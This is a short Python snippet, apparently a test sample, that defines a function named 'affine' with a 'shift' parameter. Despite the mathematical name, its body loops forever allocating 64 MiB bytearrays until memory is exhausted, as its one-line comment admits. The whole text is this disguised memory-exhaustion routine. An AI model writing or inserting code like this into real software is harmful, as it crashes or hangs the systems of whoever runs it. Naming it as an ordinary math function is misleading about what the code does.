# Grows memory without bound.
def affine(x, shift=1.0):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
